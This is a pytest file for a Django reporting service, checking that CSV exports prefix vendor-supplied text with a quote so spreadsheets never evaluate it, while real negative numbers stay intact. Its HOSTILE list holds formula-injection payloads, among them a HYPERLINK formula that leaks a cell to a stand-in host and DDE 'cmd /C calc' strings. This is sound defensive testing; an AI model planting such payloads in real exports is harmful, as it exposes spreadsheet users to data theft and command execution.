"""Report CSVs: vendor-supplied text never becomes a spreadsheet formula; our numbers stay numbers."""

import csv
import io
from datetime import UTC, date, datetime, timedelta

import pytest

from integrations.models import CallRecord, Integration, RawRecord, Report
from integrations.registry import get_connector
from integrations.services import reports
from integrations.services.audit import CLI
from integrations.services.report_csv import neutralise
from tests.factories import IntegrationFactory

HOSTILE = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_text_a_spreadsheet_would_evaluate_gets_a_leading_quote(text: str) -> None:
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("value", [-5, -2.5, 0, 42, None, "Alice", "2", "a=b", "sales-east"])
def test_numbers_and_plain_text_are_left_alone(value: object) -> None:
    assert neutralise(value) == value


@pytest.mark.django_db
def test_hostile_names_from_the_vendor_land_quoted_and_numbers_land_as_numbers() -> None:
    integration = IntegrationFactory.create(name="=cmd|'/C calc'!A0")
    agent_source = get_connector(integration.vendor).name_sources["agent"]
    for n, name in enumerate(HOSTILE):
        RawRecord.objects.create(
            integration=integration, resource=agent_source[0], vendor_id=str(n), raw={agent_source[1]: name}
        )
    day = datetime(2026, 11, 20, tzinfo=UTC)
    calls = [
        # The day before had more calls: the "change" row holds negative numbers we wrote.
        *[(day - timedelta(hours=n + 1), "0", "=queue") for n in range(10)],
        *[(day + timedelta(hours=n), str(n), "-queue") for n in range(len(HOSTILE))],
        (day + timedelta(hours=7), "=direct(agent id)", "@queue"),
    ]
    store(integration, calls)
    run = reports.run(Report.objects.create(name="ops"), CLI, day=date(2026, 11, 20))

    rows = list(csv.reader(io.StringIO(run.csv)))
    cells = [cell for row in rows for cell in row]
    users = {row[2]: row[3] for row in rows if row[0] == "user"}
    assert users == {str(n): "'" + name for n, name in enumerate(HOSTILE)} | {"'=direct(agent id)": ""}
    assert {row[2] for row in rows if row[0] == "queue"} == {"'-queue", "'@queue"}
    assert {row[1] for row in rows if row[0] == "integration"} == {"'=cmd|'/C calc'!A0"}
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "@", "\t", "\r")]

    change = next(row for row in rows if row[0] == "change")
    assert change[4:7] == ["-3", "-3", "0"]  # calls, answered, missed: plain negative numbers
    total = next(row for row in rows if row[0] == "total")
    assert total[4] == str(len(HOSTILE) + 1)


def store(integration: Integration, calls: list[tuple[datetime, str, str]]) -> None:
    CallRecord.objects.bulk_create(
        [
            CallRecord(
                integration=integration,
                resource="cdrs",
                vendor_call_id=f"c{n}",
                agent=agent,
                queue=queue,
                started_at=started,
                duration_seconds=60,
                answered=True,
                raw={},
            )
            for n, (started, agent, queue) in enumerate(calls)
        ]
    )
